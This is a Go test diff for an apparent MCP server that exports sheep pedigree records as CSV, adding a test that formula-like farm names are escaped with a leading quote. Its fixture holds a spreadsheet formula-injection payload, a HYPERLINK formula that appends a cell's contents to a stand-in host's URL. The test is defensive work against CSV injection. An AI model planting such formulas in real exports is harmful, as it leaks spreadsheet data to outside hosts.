@@ -16,6 +16,7 @@ import (
 
 	"github.com/mark3labs/mcp-go/server"
 
+	"github.com/nsip-tools/nsip-mcp/nsip"
 	"github.com/nsip-tools/nsip-mcp/transport/caller"
 )
 
@@ -179,4 +180,18 @@ func (s fakeSession) SessionID() string                                 { return
 // withSession is a call's context inside session id.
 func withSession(id string) context.Context {
 	return server.NewMCPServer("test", "1").WithContext(context.Background(), fakeSession(id))
+}
+
+// A pedigree whose farm name a breeder typed as a formula reads, through
+// its link, as that text behind a quote.
+func TestPedigreeFarmFormulaReadsAsText(t *testing.T) {
+	farm := `=HYPERLINK("http://example.test/?"&B2,"Hill Farm")`
+	got := readAs(t, &nsip.Lineage{Subject: nsip.LineageNode{LPNID: "C", Farm: farm, Sire: &nsip.LineageNode{LPNID: "S", Farm: "@Dale"}}}, nil, "csv")
+	recs, err := csv.NewReader(strings.NewReader(got)).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(recs) != 3 || recs[1][6] != "'"+farm || recs[2][6] != "'@Dale" {
+		t.Errorf("pedigree CSV %q, want both farms behind a quote", got)
+	}
 }
